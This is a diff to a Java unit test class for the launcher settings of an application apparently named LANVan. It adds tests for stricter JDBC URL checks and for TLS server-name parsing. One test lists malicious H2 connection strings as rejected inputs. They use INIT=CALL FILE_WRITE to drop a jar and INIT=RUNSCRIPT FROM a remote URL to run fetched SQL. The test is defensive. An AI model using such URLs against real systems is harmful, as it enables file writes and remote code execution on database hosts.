@@ -94,12 +94,43 @@ class LauncherSettingsTest {
         "LANVAN_HTTP_PORT  | -1        | LANVAN_HTTP_PORT must be a port number 1-65535, or 0 or 'off'",
         "LANVAN_BIND       | localhost | LANVAN_BIND must be an IP address",
         "LANVAN_BIND       | 10.0.0.256 | LANVAN_BIND must be an IP address",
-        "LANVAN_DB_URL     | postgres://db/lanvan | LANVAN_DB_URL must be a JDBC URL starting with 'jdbc:'",
+        "LANVAN_DB_URL     | postgres://db/lanvan | LANVAN_DB_URL must be a JDBC URL starting with 'jdbc:postgresql://' or 'jdbc:h2:file:'",
     })
     void invalidValueIsRefusedNamingTheVariableAndTheRule(String variable, String value, String message) {
         var failure = assertThrows(InvalidSettingsException.class, () -> LauncherSettings.load(home, Map.of(variable, value)));
 
         assertTrue(failure.getMessage().startsWith(message), failure.getMessage());
+    }
+
+    @Test
+    void aDatabaseUrlWithH2OptionsOrInMemoryIsRefusedBeforeTheServerStarts() {
+        for (String url : new String[] {"jdbc:h2:mem:x;INIT=CALL FILE_WRITE(X'00', '/tmp/x.jar')",
+                "jdbc:h2:file:/srv/lanvan/data/db/lanvan;INIT=RUNSCRIPT FROM 'http://x/y.sql'", "jdbc:h2:mem:x",
+                "jdbc:mysql://db/lanvan"}) {
+            var failure = assertThrows(InvalidSettingsException.class,
+                    () -> LauncherSettings.load(home, Map.of("LANVAN_DB_URL", url)), url);
+
+            assertTrue(failure.getMessage().startsWith("LANVAN_DB_URL must be a JDBC URL starting with"), failure.getMessage());
+            assertFalse(failure.getMessage().contains("FILE_WRITE"), "the URL is not echoed: " + failure.getMessage());
+        }
+    }
+
+    @Test
+    void serverNamesAreReadAsACommaSeparatedListOfDnsNames() throws Exception {
+        writeProperties("tls.names=LANVan.corp.example.com, files.corp.example.com");
+
+        assertEquals(List.of("lanvan.corp.example.com", "files.corp.example.com"),
+                LauncherSettings.load(home, Map.of()).serverNames());
+    }
+
+    @Test
+    void serverNamesThatAreWildcardsOrAddressesAreRefused() {
+        for (String names : new String[] {"*.corp.example.com", "10.0.0.1", "lanvan_corp", "a..b"}) {
+            var failure = assertThrows(InvalidSettingsException.class,
+                    () -> LauncherSettings.load(home, Map.of("LANVAN_TLS_NAMES", names)), names);
+
+            assertTrue(failure.getMessage().startsWith("LANVAN_TLS_NAMES must be DNS names"), failure.getMessage());
+        }
     }
 
     @Test
